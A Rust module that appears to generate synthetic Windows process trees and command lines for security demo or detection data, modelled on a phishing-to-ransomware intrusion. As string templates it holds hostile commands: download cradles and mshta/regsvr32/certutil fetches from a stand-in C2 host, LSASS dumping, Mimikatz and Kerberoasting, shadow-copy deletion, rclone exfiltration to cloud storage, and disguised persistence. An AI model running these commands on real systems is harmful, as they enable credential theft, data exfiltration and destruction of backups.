//! The programs that appear in demo process trees, with the folders they live in and the
//! command lines attackers (and a few honest admins) run them with.

use super::payloads::{self, Script};
use crate::rng::Rng;

/// The per-incident names a command line refers to, so one attack story stays consistent.
#[derive(Debug, Clone)]
pub struct Scene {
    /// SAM name of the user the processes run as.
    pub user: String,
    /// Another host the attacker reaches (lateral target, file share).
    pub peer: String,
    /// C2 host name.
    pub c2_host: String,
    /// C2 IP address.
    pub c2_ip: String,
    /// Second-stage DLL name.
    pub payload_dll: String,
    /// Dropped executable name.
    pub payload_exe: String,
    /// Lure document name.
    pub lure: String,
}

/// A program in a process tree.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Image {
    /// wininit.exe (parent of services).
    Wininit,
    /// userinit.exe (parent of explorer).
    Userinit,
    /// services.exe.
    Services,
    /// svchost.exe hosting the task scheduler.
    Svchost,
    /// WMI provider host (remote WMI children).
    WmiPrvSe,
    /// explorer.exe.
    Explorer,
    /// Outlook.
    Outlook,
    /// Word opening a lure.
    Winword,
    /// Excel opening a lure.
    Excel,
    /// Chrome (downloads).
    Chrome,
    /// cmd.exe.
    Cmd,
    /// powershell.exe with an encoded script.
    PowerShell(Script),
    /// PowerShell running an Atomic Red Team test (security testing).
    AtomicTest,
    /// rundll32 loading the dropped DLL.
    Rundll32Loader,
    /// rundll32 with no arguments (injected beacon).
    Rundll32Bare,
    /// rundll32 comsvcs.dll MiniDump of LSASS.
    Rundll32MiniDump,
    /// regsvr32 squiblydoo.
    Regsvr32,
    /// mshta running remote or inline script.
    Mshta,
    /// certutil -urlcache download.
    Certutil,
    /// bitsadmin download.
    Bitsadmin,
    /// wscript running a .js lure.
    Wscript,
    /// wmic remote process creation.
    Wmic,
    /// schtasks /create.
    Schtasks,
    /// reg add Run key.
    Reg,
    /// Mimikatz (often renamed).
    Mimikatz,
    /// Sysinternals procdump on LSASS.
    Procdump,
    /// Rubeus kerberoast.
    Rubeus,
    /// AdFind domain enumeration.
    AdFind,
    /// whoami /all.
    Whoami,
    /// net group queries.
    Net,
    /// nltest trusts.
    Nltest,
    /// PsExec to a peer.
    PsExec,
    /// PsExec's service on the target.
    PsExeSvc,
    /// vssadmin delete shadows.
    Vssadmin,
    /// bcdedit recovery off.
    Bcdedit,
    /// The ransomware binary.
    Locker,
    /// The dropped executable run directly.
    Dropper,
    /// rclone exfiltration.
    Rclone,
    /// 7-Zip archiving a share.
    SevenZip,
    /// A line-of-business updater (benign).
    LobUpdater,
}

impl Image {
    /// File name of the image.
    pub fn file_name(self, s: &Scene) -> String {
        let name = match self {
            Image::Wininit => "wininit.exe",
            Image::Userinit => "userinit.exe",
            Image::Services => "services.exe",
            Image::Svchost => "svchost.exe",
            Image::WmiPrvSe => "WmiPrvSE.exe",
            Image::Explorer => "explorer.exe",
            Image::Outlook => "OUTLOOK.EXE",
            Image::Winword => "WINWORD.EXE",
            Image::Excel => "EXCEL.EXE",
            Image::Chrome => "chrome.exe",
            Image::Cmd => "cmd.exe",
            Image::PowerShell(_) | Image::AtomicTest => "powershell.exe",
            Image::Rundll32Loader | Image::Rundll32Bare | Image::Rundll32MiniDump => "rundll32.exe",
            Image::Regsvr32 => "regsvr32.exe",
            Image::Mshta => "mshta.exe",
            Image::Certutil => "certutil.exe",
            Image::Bitsadmin => "bitsadmin.exe",
            Image::Wscript => "wscript.exe",
            Image::Wmic => "WMIC.exe",
            Image::Schtasks => "schtasks.exe",
            Image::Reg => "reg.exe",
            Image::Mimikatz => "m64.exe",
            Image::Procdump => "procdump64.exe",
            Image::Rubeus => "Rubeus.exe",
            Image::AdFind => "AdFind.exe",
            Image::Whoami => "whoami.exe",
            Image::Net => "net.exe",
            Image::Nltest => "nltest.exe",
            Image::PsExec => "PsExec64.exe",
            Image::PsExeSvc => "PSEXESVC.exe",
            Image::Vssadmin => "vssadmin.exe",
            Image::Bcdedit => "bcdedit.exe",
            Image::Locker | Image::Dropper => return s.payload_exe.clone(),
            Image::Rclone => "rclone.exe",
            Image::SevenZip => "7z.exe",
            Image::LobUpdater => "ContosoUpdate.exe",
        };
        name.to_string()
    }

    /// Folder of the image.
    pub fn folder(self, s: &Scene) -> String {
        let fixed = match self {
            Image::Explorer | Image::PsExeSvc => "C:\\Windows",
            Image::WmiPrvSe => "C:\\Windows\\System32\\wbem",
            Image::Wmic => "C:\\Windows\\System32\\wbem",
            Image::PowerShell(_) | Image::AtomicTest => {
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0"
            }
            Image::Outlook | Image::Winword | Image::Excel => {
                "C:\\Program Files\\Microsoft Office\\root\\Office16"
            }
            Image::Chrome => "C:\\Program Files\\Google\\Chrome\\Application",
            Image::SevenZip => "C:\\Program Files\\7-Zip",
            Image::LobUpdater => "C:\\Program Files\\Contoso\\Updater",
            Image::Mimikatz | Image::Rubeus | Image::AdFind | Image::Procdump => {
                return format!("C:\\Users\\{}\\AppData\\Local\\Temp", s.user);
            }
            Image::Locker | Image::Dropper | Image::Rclone => "C:\\ProgramData",
            _ => "C:\\Windows\\System32",
        };
        fixed.to_string()
    }

    /// The usual parent of this image when the chain starts with it.
    pub fn natural_parent(self) -> Image {
        match self {
            Image::Services => Image::Wininit,
            Image::Svchost | Image::PsExeSvc => Image::Services,
            Image::WmiPrvSe => Image::Svchost,
            Image::Explorer => Image::Userinit,
            _ => Image::Explorer,
        }
    }

    /// A command line for this image in this scene.
    pub fn command_line(self, rng: &mut Rng, s: &Scene) -> String {
        let u = &s.user;
        match self {
            Image::Wininit => "wininit.exe".to_string(),
            Image::Userinit => "C:\\Windows\\system32\\userinit.exe".to_string(),
            Image::Services => "C:\\Windows\\system32\\services.exe".to_string(),
            Image::Svchost => {
                "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule".to_string()
            }
            Image::WmiPrvSe => {
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding".to_string()
            }
            Image::Explorer => "C:\\Windows\\Explorer.EXE".to_string(),
            Image::Outlook => {
                "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" ".to_string()
            }
            Image::Winword | Image::Excel => format!(
                "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\{}\" /n \"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\{}\\{}\" /o \"\"",
                self.file_name(s),
                rng.hex(8).to_uppercase(),
                s.lure
            ),
            Image::Chrome => {
                "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" ".to_string()
            }
            Image::Cmd => match rng.below(3) {
                0 => format!(
                    "\"C:\\Windows\\system32\\cmd.exe\" /c \"C:\\Users\\{u}\\AppData\\Local\\Temp\\{}.bat\"",
                    rng.hex(6)
                ),
                1 => "\"C:\\Windows\\system32\\cmd.exe\" ".to_string(),
                _ => "cmd.exe /Q /c cd /d C:\\ProgramData & run.cmd".to_string(),
            },
            Image::PowerShell(kind) => {
                let script = payloads::script(rng, kind, &s.c2_host, &s.peer);
                let nested = rng.chance(0.3);
                payloads::encoded_command_line(rng, &script, nested)
            }
            Image::AtomicTest => format!(
                "powershell.exe -ExecutionPolicy Bypass -c \"Import-Module C:\\AtomicRedTeam\\invoke-atomicredteam\\Invoke-AtomicRedTeam.psd1; Invoke-AtomicTest {} -TestNumbers {}\"",
                rng.pick(&["T1003.001", "T1059.001", "T1547.001", "T1218.011"]),
                rng.range(1, 4)
            ),
            Image::Rundll32Loader => format!(
                "rundll32.exe C:\\Users\\{u}\\AppData\\Local\\Temp\\{},{}",
                s.payload_dll,
                rng.pick(&["DllRegisterServer", "Start", "RepeatAfterMe", "#1"])
            ),
            Image::Rundll32Bare => "C:\\Windows\\System32\\rundll32.exe".to_string(),
            Image::Rundll32MiniDump => format!(
                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {} C:\\Windows\\Temp\\{}.dmp full",
                rng.range(600, 900) * 4,
                rng.hex(4)
            ),
            Image::Regsvr32 => format!(
                "regsvr32.exe /s /n /u /i:http://{}/{}.sct scrobj.dll",
                s.c2_host,
                rng.hex(5)
            ),
            Image::Mshta => {
                if rng.chance(0.5) {
                    format!("mshta.exe http://{}/{}.hta", s.c2_host, rng.hex(6))
                } else {
                    format!(
                        "mshta vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell -nop -w hidden -c iex(iwr http://{}/p)\"\",0:close\")",
                        s.c2_ip
                    )
                }
            }
            Image::Certutil => format!(
                "certutil.exe -urlcache -split -f http://{}/{} C:\\Users\\Public\\{}",
                s.c2_ip, s.payload_dll, s.payload_dll
            ),
            Image::Bitsadmin => format!(
                "bitsadmin /transfer {} /download /priority high http://{}/{} C:\\ProgramData\\{}",
                rng.hex(4),
                s.c2_host,
                s.payload_exe,
                s.payload_exe
            ),
            Image::Wscript => format!(
                "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\{u}\\Downloads\\{}.js\"",
                s.lure
            ),
            Image::Wmic => format!(
                "wmic /node:\"{}\" process call create \"cmd.exe /c C:\\ProgramData\\{}\"",
                s.peer, s.payload_exe
            ),
            Image::Schtasks => format!(
                "schtasks /create /tn \"\\Microsoft\\Windows\\{}\" /tr \"rundll32.exe C:\\ProgramData\\{},Start\" /sc onlogon /ru SYSTEM /f",
                rng.pick(&[
                    "OneDriveUpdate",
                    "UpdateCheck",
                    "EdgeUpdateTaskCore",
                    "Defrag\\ScheduledDefrag2"
                ]),
                s.payload_dll
            ),
            Image::Reg => format!(
                "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v \"{}\" /t REG_SZ /d \"C:\\Users\\{u}\\AppData\\Roaming\\{}\" /f",
                rng.pick(&["SecurityHealth", "OneDrive Sync", "AdobeUpdater"]),
                s.payload_exe
            ),
            Image::Mimikatz => {
                "m64.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" \"exit\"".to_string()
            }
            Image::Procdump => {
                "procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass.dmp".to_string()
            }
            Image::Rubeus => {
                "Rubeus.exe kerberoast /outfile:C:\\Users\\Public\\hashes.txt /nowrap".to_string()
            }
            Image::AdFind => {
                "AdFind.exe -f \"(objectcategory=computer)\" -csv name operatingSystem".to_string()
            }
            Image::Whoami => "whoami /all".to_string(),
            Image::Net => format!(
                "net {}",
                rng.pick(&[
                    "group \"Domain Admins\" /domain",
                    "user /domain",
                    "localgroup administrators",
                    "view /all",
                ])
            ),
            Image::Nltest => "nltest /domain_trusts /all_trusts".to_string(),
            Image::PsExec => format!(
                "PsExec64.exe \\\\{} -accepteula -s -d -c C:\\ProgramData\\{}",
                s.peer, s.payload_exe
            ),
            Image::PsExeSvc => "C:\\Windows\\PSEXESVC.exe".to_string(),
            Image::Vssadmin => "vssadmin.exe delete shadows /all /quiet".to_string(),
            Image::Bcdedit => "bcdedit /set {default} recoveryenabled No".to_string(),
            Image::Locker => format!(
                "C:\\ProgramData\\{} -path \\\\{}\\share -nolog -pass {}",
                s.payload_exe,
                s.peer,
                rng.hex(32)
            ),
            Image::Dropper => format!("\"C:\\ProgramData\\{}\" /install /quiet", s.payload_exe),
            Image::Rclone => format!(
                "rclone.exe copy \"\\\\{}\\Finance\" mega:{} -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12",
                s.peer,
                rng.hex(6)
            ),
            Image::SevenZip => format!(
                "\"C:\\Program Files\\7-Zip\\7z.exe\" a -tzip -p{} C:\\Users\\Public\\{}.zip \"\\\\{}\\Finance\\*\"",
                rng.hex(10),
                rng.hex(4),
                s.peer
            ),
            Image::LobUpdater => {
                "\"C:\\Program Files\\Contoso\\Updater\\ContosoUpdate.exe\" /silent /channel stable"
                    .to_string()
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scene() -> Scene {
        Scene {
            user: "jsmith".into(),
            peer: "srv-file-01".into(),
            c2_host: "cdn-update.example.net".into(),
            c2_ip: "185.220.101.47".into(),
            payload_dll: "mscorsvc.dll".into(),
            payload_exe: "svcupdate.exe".into(),
            lure: "Invoice_4821.docm".into(),
        }
    }

    #[test]
    fn command_lines_mention_the_scene() {
        let s = scene();
        let mut rng = Rng::new(1);
        assert!(
            Image::Certutil
                .command_line(&mut rng, &s)
                .contains("185.220.101.47")
        );
        assert!(
            Image::PsExec
                .command_line(&mut rng, &s)
                .contains("\\\\srv-file-01")
        );
        assert!(
            Image::Reg
                .command_line(&mut rng, &s)
                .contains("svcupdate.exe")
        );
        let ps = Image::PowerShell(Script::Cradle).command_line(&mut rng, &s);
        assert!(ps.to_ascii_lowercase().contains(" -e"), "{ps}");
        assert_eq!(Image::Locker.file_name(&s), "svcupdate.exe");
        assert_eq!(
            Image::Mimikatz.folder(&s),
            "C:\\Users\\jsmith\\AppData\\Local\\Temp"
        );
        assert_eq!(Image::Services.natural_parent(), Image::Wininit);
    }
}
